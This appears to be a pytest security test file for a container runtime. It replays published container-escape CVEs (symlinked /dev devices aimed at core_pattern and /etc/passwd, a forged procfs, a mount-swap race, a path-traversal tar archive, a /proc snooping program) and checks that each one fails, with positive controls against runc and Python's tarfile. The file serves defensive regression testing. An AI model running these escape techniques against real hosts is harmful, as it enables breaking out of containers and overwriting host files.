"""Published escapes of other runtimes, tried on this one; docs/security.md lists them by number."""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
from typing import TYPE_CHECKING

import pytest

from bundles import Bundle
from security.hostile import compiled, make_root, start_swapping
from terminal import Terminal

if TYPE_CHECKING:
    from pathlib import Path

    from program import Crate

pytestmark = pytest.mark.requires("root", "overlay", "busybox")
RUN = ("run", "--rm", "--network", "none")

CALLS = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static void tell(const char *name, long got) { printf("%s %d\n", name, got < 0 ? errno : 0); }

int main(void) {
    tell("AF_ALG", socket(38, SOCK_SEQPACKET, 0));
    tell("AF_VSOCK", socket(40, SOCK_STREAM, 0));
    tell("io_uring_setup", syscall(425, 1, NULL));
    tell("keyctl", syscall(SYS_keyctl, 0, -3, 0));
    tell("add_key", syscall(SYS_add_key, "user", "x", "y", 1, -2));
    tell("AF_UNIX", socket(AF_UNIX, SOCK_STREAM, 0));
    return 0;
}
"""


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A directory of the host with a file, at a path that no container has."""
    place = tmp_path / "victim"
    place.mkdir()
    (place / "secret").write_text("the host's\n")
    return place


def untouched(victim: Path) -> bool:
    """Is everything as it was made?"""
    return os.listdir(victim) == ["secret"] and (victim / "secret").read_text() == "the host's\n"


@pytest.mark.skipif(not shutil.which("musl-gcc"), reason="musl-gcc makes the program (apt install musl-tools)")
def test_calls_that_reach_too_much_of_the_kernel(crate: Crate, busybox: str, tmp_path: Path) -> None:
    (tmp_path / "calls.c").write_text(CALLS)
    subprocess.run(["musl-gcc", "-static", "-o", tmp_path / "calls", tmp_path / "calls.c"], check=True, timeout=60)
    told = crate.ok(*RUN, "-v", f"{tmp_path}/calls:/calls:ro", busybox, "/calls").splitlines()
    names = ("AF_ALG", "AF_VSOCK", "io_uring_setup", "keyctl", "add_key")
    assert told == [*(f"{name} 1" for name in names), "AF_UNIX 0"]


@pytest.mark.parametrize("target", ["{victim}", "../../../../../../../../../..{victim}"])
def test_devices_of_an_image_whose_dev_is_a_link(crate: Crate, victim: Path, target: str) -> None:
    root = make_root(crate.place)
    (victim / "ptmx").write_text("the host's\n")
    (root / "dev").symlink_to(target.format(victim=victim))
    crate(*RUN, "--rootfs", str(root), "echo")
    assert sorted(os.listdir(victim)) == ["ptmx", "secret"] and (victim / "ptmx").read_text() == "the host's\n"


def test_null_device_that_is_a_link_masks_nothing_else(crate: Crate, busybox: str, victim: Path) -> None:
    crate.ok("volume", "create", "shared")
    null = crate.root / "volumes/shared/_data/null"
    for target in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/etc/passwd"):
        null.symlink_to(target)
        look = "head -c 20 /proc/kcore 2>/dev/null; head -c 20 /proc/keys 2>/dev/null; echo > /proc/kcore; :"
        told = crate(*RUN, "-v", "shared:/dev", busybox, "sh", "-c", look)
        assert told.out == "", target
        null.unlink()
    with open("/proc/sys/kernel/core_pattern") as file:
        assert file.read() != "\n"


def test_console_that_is_a_link(crate: Crate, busybox: str, victim: Path) -> None:
    crate.ok("volume", "create", "shared")
    data = crate.root / "volumes/shared/_data"
    for target in (f"{victim}/made", f"../../../../../../..{victim}/secret", "/proc/sys/kernel/core_pattern"):
        (data / "console").symlink_to(target)
        crate(*RUN, "-t", "-v", "shared:/dev", busybox, "sh", "-c", "echo out > /dev/console; :")
        (data / "console").unlink()
        assert untouched(victim), target


@pytest.mark.skipif(not shutil.which("musl-gcc"), reason="musl-gcc makes the program (apt install musl-tools)")
def test_container_swaps_where_another_mounts(crate: Crate, busybox: str, victim: Path, tmp_path: Path) -> None:
    """CVE-2021-30465, CVE-2024-45310. Seen to catch targets of mounts that are checked, and then opened by name."""
    make = f"mkdir /v/d; ln -s {victim} /v/way"
    start_swapping(crate, tmp_path, busybox, make, "/v/d /v/way", "-v", "shared:/v", name="attacker")
    source = crate.place / "source"
    source.mkdir()
    for number in range(8):
        options = ("-v", "shared:/v", "-v", f"{source}:/v/d/made{number}", "--tmpfs", f"/v/d/other{number}")
        crate(*RUN, *options, busybox, "true")
    crate.ok("rm", "-f", "-t", "0", "attacker")
    assert untouched(victim)


def test_programs_of_a_container_unpack_nothing(crate: Crate) -> None:
    root = make_root(crate.place)
    (root / "usr/bin").mkdir(parents=True)
    (root / "in").mkdir()
    for name in ("xz", "unxz", "gzip", "gunzip", "unpigz", "pigz", "bzip2", "zstd", "tar", "ps", "nsenter"):
        for directory in ("bin", "usr/bin"):
            (root / directory / name).write_text("#!/bin/sh\necho executed > /executed\ncat\n")
            (root / directory / name).chmod(0o755)
    (root / "lib").mkdir()
    for name in ("libnss_files.so.2", "libnss_compat.so.2"):
        (root / "lib" / name).write_text("no library")
    crate.ok("run", "-di", "--name", "box", "--network", "none", "--rootfs", str(root), "sh", "-c", "cat; :")
    for form in ("w:xz", "w:gz", "w:bz2"):
        stream = io.BytesIO()
        with tarfile.open(fileobj=stream, mode=form) as tar:
            tar.addfile(tarfile.TarInfo(form[2:]))
        command = crate.command("cp", "-", "box:/in")
        subprocess.run(command, check=True, input=stream.getvalue(), env=crate.environment, timeout=60)
    crate.ok("cp", "box:/in", str(crate.place / "out"))
    crate.ok("top", "box", "user", "huser", "args")
    assert sorted(os.listdir(root / "in")) == ["bz2", "gz", "xz"] and not (root / "executed").exists()


@pytest.mark.parametrize("number", ["4294967296", "2147483648", "99999999999999999999"])
def test_numbers_beyond_those_of_users_are_no_names(crate: Crate, number: str) -> None:
    root = make_root(crate.place)
    (root / "bin/id").symlink_to("busybox")
    (root / "etc/passwd").write_text(f"{number}:x:0:0::/:/bin/sh\n")
    (root / "etc/group").write_text(f"{number}:x:0:\n")
    for user in (number, f"5:{number}"):
        crate.fails(125, *RUN, "--user", user, "--rootfs", str(root), "id", "-u")
    crate.ok("run", "-di", "--name", "box", "--network", "none", "--rootfs", str(root), "sh", "-c", "cat; :")
    crate.fails(125, "exec", "--user", number, "box", "id", "-u")
    (root / "etc/passwd").write_text("1:x:0:0::/:/bin/sh\n")
    assert crate.ok("exec", "--user", "1", "box", "sh", "-c", "id -u; id -g").split() == ["1", "0"]


def test_user_one_is_user_one(crate: Crate, busybox: str) -> None:
    crate.ok("run", "-d", "--name", "box", "--network", "none", busybox, "sleep", "60")
    assert crate.ok("exec", "-u", "1", "box", "sh", "-c", "id -u; grep CapEff /proc/self/status").split()[::2] == [
        "1",
        "0" * 16,
    ]


#: prints what it sees of the processes that come after it: executables, directories, descriptors; each once
LOOKER = r"""
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static char seen[200][256];
static int count;
static int look(int pid, const char *name) {
    char path[64], target[256] = "";
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    if (readlink(path, target, sizeof target - 1) < 0)
        return 0;
    for (int i = 0; i < count; i++)
        if (!strcmp(seen[i], target))
            return 1;
    if (count < 200) {
        strcpy(seen[count++], target);
        puts(target);
    }
    return 1;
}
int main(void) {
    static const char *names[] = {"exe", "cwd", "root", "fd/0", "fd/1", "fd/2", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7"};
    setvbuf(stdout, 0, _IONBF, 0);
    puts("looks");
    for (int last = getpid();;)
        for (int pid = last + 1; pid < last + 6; pid++)
            for (int alive = 1; alive;) {
                alive = 0;
                for (unsigned i = 0; i < sizeof names / sizeof *names; i++)
                    if (look(pid, names[i]))
                        alive = 1, last = pid;
            }
}
"""


@pytest.mark.skipif(not shutil.which("musl-gcc"), reason="musl-gcc makes the program (apt install musl-tools)")
def test_exec_shows_nothing_of_the_host(crate: Crate, busybox: str, tmp_path: Path) -> None:
    """CVE-2016-9962. Seen to catch an entering process that stays dumpable."""
    look = compiled(tmp_path, "look", LOOKER)
    crate.ok("run", "-d", "--name", "box", "--network", "none", "-v", f"{look}:/look:ro", busybox, "/look")
    crate.await_line("box", "looks")
    for _ in range(10):
        crate.ok("exec", "box", "sleep", "0.02")
    seen = crate.ok("logs", "box").splitlines()
    # pipes, and what the entered program has itself
    assert "/bin/busybox" in seen and {line for line in seen if line[:5] != "pipe:"} <= {
        "looks",
        "/bin/busybox",
        "/",
        "/dev/null",
    }


def test_no_socket_has_an_abstract_name(crate: Crate, busybox: str) -> None:
    before = set(_abstract())
    crate.ok("run", "-d", "--name", "box", "--network", "host", busybox, "sleep", "60")
    assert [name for name in set(_abstract()) - before if "crate" in name or crate.mark in name] == []


def _abstract() -> list[str]:
    with open("/proc/net/unix") as file:
        return [line.split()[-1] for line in file if " @" in line]


def test_first_use_of_a_volume_overwrites_nothing(crate: Crate, busybox: str) -> None:
    crate.ok("volume", "create", "kept")
    (crate.root / "volumes/kept/_data/passwd").write_text("own\n")
    assert crate.ok(*RUN, "-v", "kept:/etc", busybox, "cat", "/etc/passwd") == "own"
    assert crate.ok(*RUN, "-v", "kept:/etc", busybox, "cat", "/etc/passwd") == "own"


@pytest.mark.parametrize("family", [(), ("--ipv6",)])
def test_bridges_accept_no_router_advertisements(crate: Crate, busybox: str, family: tuple[str, ...]) -> None:
    crate.ok("network", "create", *family, "wire")
    crate.ok("run", "--rm", "--network", "wire", busybox, "true")
    (found,) = json.loads(crate.ok("network", "inspect", "wire"))
    with open(f"/proc/sys/net/ipv6/conf/{found['network_interface']}/accept_ra") as file:
        assert file.read() == "0\n"


@pytest.mark.parametrize(
    "kind", ["configMap: {name: files}", "secret: {secretName: files}", "projected: {sources: []}"]
)
def test_kube_writes_through_no_link_of_a_volume(crate: Crate, busybox: str, victim: Path, kind: str) -> None:
    """CVE-2025-9566: podman wrote the files of a ConfigMap into a volume where the pod had put a link."""
    crate.ok("volume", "create", "files")
    (crate.root / "volumes/files/_data/secret").symlink_to(victim / "secret")
    text = f"""
apiVersion: v1
kind: ConfigMap
metadata: {{name: files}}
data: {{secret: overwritten}}
---
apiVersion: v1
kind: Pod
metadata: {{name: web}}
spec:
  volumes: [{{name: files, {kind}}}]
  containers: [{{name: one, image: {busybox}, volumeMounts: [{{name: files, mountPath: /files}}]}}]
"""
    for words in (("kube", "play"), ("play", "kube", "--replace")):
        crate.fails(125, *words, "-", input=text)
    crate.fails(125, "kube", "play", "-", input=text.partition("---")[2])
    assert untouched(victim) and crate.ok("pod", "ps", "-q") == "" and crate.ok("ps", "-aq") == ""


@pytest.mark.requires("runc")
def test_devices_through_a_link_by_runc(victim: Path, tmp_path: Path) -> None:
    """Positive control for CVE-2026-41579: what runc does with /dev of an image that is a link."""
    bundle = Bundle(tmp_path / "bundle")
    bundle.process["args"] = ["true"]
    bundle.spec["mounts"] = [entry for entry in bundle.spec["mounts"] if not entry["destination"].startswith("/dev")]
    (bundle.rootfs / "dev").symlink_to(victim)
    bundle.write()
    state = ["--root", str(tmp_path / "state")]
    name = f"crate-test-{os.getpid()}"
    subprocess.run(["runc", *state, "run", "-b", bundle.place, name], capture_output=True, timeout=60, check=False)
    subprocess.run(["runc", *state, "delete", "-f", name], capture_output=True, timeout=60, check=False)
    if untouched(victim):
        pytest.skip("this runc does not fall for it")
    assert {"fd", "stdin", "stdout", "stderr", "ptmx"} & set(os.listdir(victim))


def _in_a_shared_dev(bundle: Bundle, name: str, target: str) -> None:
    """A bundle whose /dev is a directory of the attacker's, in which `name` is a link."""
    dev = bundle.place / "dev"
    (dev / "pts").mkdir(parents=True)
    (dev / name).symlink_to(target)
    (dev / "ptmx").symlink_to("pts/ptmx")
    mounts = bundle.spec["mounts"]
    kept = [entry for entry in mounts if not entry["destination"].startswith("/dev") or "pts" in entry["destination"]]
    bundle.spec["mounts"] = [
        {"destination": "/dev", "type": "bind", "source": str(dev), "options": ["rbind", "rw"]}, *kept
    ]  # fmt: skip


@pytest.mark.requires("root", "runc")
def test_null_device_that_is_a_link_by_runc(tmp_path: Path) -> None:
    """Positive control for CVE-2025-31133: what runc masks with."""
    bundle = Bundle(tmp_path / "bundle")
    _in_a_shared_dev(bundle, "null", "/proc/sys/kernel/core_pattern")
    bundle.linux["maskedPaths"] = ["/proc/keys"]
    bundle.shell("cat /proc/keys; grep ' /proc/keys ' /proc/self/mountinfo")
    bundle.write()
    words = ["runc", "--root", str(tmp_path / "state")]
    name = f"crate-test-{os.getpid()}"
    done = subprocess.run(
        [*words, "run", "-b", bundle.place, name], stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60,
        check=False,
    )  # fmt: skip
    subprocess.run([*words, "delete", "-f", name], capture_output=True, timeout=60, check=False)
    if done.returncode:
        pytest.skip("this runc does not fall for it")
    assert "/sys/kernel/core_pattern /proc/keys" in done.stdout, done


@pytest.mark.requires("root", "runc")
def test_console_that_is_a_link_by_runc(tmp_path: Path) -> None:
    """Positive control for CVE-2025-52565: where runc mounts the console."""
    bundle = Bundle(tmp_path / "bundle")
    (bundle.rootfs / "etc").mkdir(exist_ok=True)
    (bundle.rootfs / "etc/victim").write_text("of the image\n")
    _in_a_shared_dev(bundle, "console", "/etc/victim")
    os.mknod(bundle.place / "dev/null", 0o20666, os.makedev(1, 3))
    bundle.process["terminal"] = True
    bundle.shell("grep -e console -e victim /proc/self/mountinfo")
    bundle.write()
    words = ["runc", "--root", str(tmp_path / "state")]
    name = f"crate-test-{os.getpid()}"
    status, text = Terminal([*words, "run", "-b", str(bundle.place), name], dict(os.environ), 24, 120).end()
    subprocess.run([*words, "delete", "-f", name], capture_output=True, timeout=60, check=False)
    if status or "/etc/victim" not in text:
        pytest.skip("this runc does not fall for it")
    assert "/etc/victim rw" in text and "devpts" in text


#: mounts, in a namespace of its own, a procfs in which one file is another, and goes on as a command
FORGED = """
mount -t proc proc "$1" && mount --bind "$1/sys/kernel/hostname" "$1/sys/kernel/domainname" || exit 9
umount /sys/fs/cgroup/unified 2> /dev/null
shift; exec "$@"
"""


def _with_forged_proc(bundle: Bundle, *words: str) -> subprocess.CompletedProcess[str]:
    """Runs a bundle that has a sysctl, and where its /proc should be an attacker's procfs (CVE-2025-52881)."""
    proc = bundle.place / "proc"
    proc.mkdir()
    mounts = [entry for entry in bundle.spec["mounts"] if entry["destination"] != "/proc"]
    forged = {"destination": "/proc", "type": "bind", "source": str(proc), "options": ["rbind", "rw"]}
    bundle.spec["mounts"] = [forged, *mounts]
    bundle.linux["maskedPaths"] = bundle.linux["readonlyPaths"] = []
    bundle.linux["sysctl"] = {"kernel.domainname": "led-elsewhere"}
    del bundle.spec["hostname"]
    bundle.shell("hostname")
    bundle.write()
    command = ["unshare", "--mount", "sh", "-c", FORGED, "sh", str(proc), *words]
    return subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)


@pytest.mark.requires("root", "runc")  # makes the bundle
def test_writes_to_a_forged_proc(crate: Crate, tmp_path: Path) -> None:
    bundle = Bundle(tmp_path / "bundle")
    words = crate.command("runtime", "run", "--bundle", str(bundle.place), f"forged-{crate.mark}")
    done = _with_forged_proc(bundle, *words)
    assert done.returncode == 125 and "cannot set sysctl kernel.domainname" in done.stderr and not done.stdout, done


@pytest.mark.requires("root", "runc")
def test_writes_to_a_forged_proc_by_runc(tmp_path: Path) -> None:
    """Positive control for CVE-2025-52881: runc's sysctl becomes the host name of the container."""
    words = ["runc", "--root", str(tmp_path / "state")]
    name = f"crate-test-{os.getpid()}"
    done = _with_forged_proc(Bundle(tmp_path / "bundle"), *words, "run", "-b", str(tmp_path / "bundle"), name)
    subprocess.run([*words, "delete", "-f", name], capture_output=True, timeout=60, check=False)
    if done.returncode or done.stdout == os.uname().nodename + "\n":
        pytest.skip("this runc does not fall for it")
    assert done.stdout == "led-elsewhere\n", done


def test_members_outside_by_tarfile(victim: Path, tmp_path: Path) -> None:
    """Positive control for CVE-2025-4517 and CVE-2024-12718: what Python's tarfile does with an archive."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as tar:
        way = tarfile.TarInfo("way")
        way.type, way.linkname = tarfile.SYMTYPE, str(victim)
        tar.addfile(way)
        entry = tarfile.TarInfo("way/secret")
        entry.size = 4
        tar.addfile(entry, io.BytesIO(b"bad\n"))
    place = tmp_path / "place"
    script = f"import tarfile; tarfile.open('{tmp_path}/a.tar').extractall('{place}')"
    (tmp_path / "a.tar").write_bytes(stream.getvalue())
    subprocess.run([sys.executable, "-W", "ignore", "-c", script], capture_output=True, timeout=60, check=False)
    if untouched(victim):
        pytest.skip("this tarfile does not fall for it")
    assert (victim / "secret").read_text() == "bad\n"
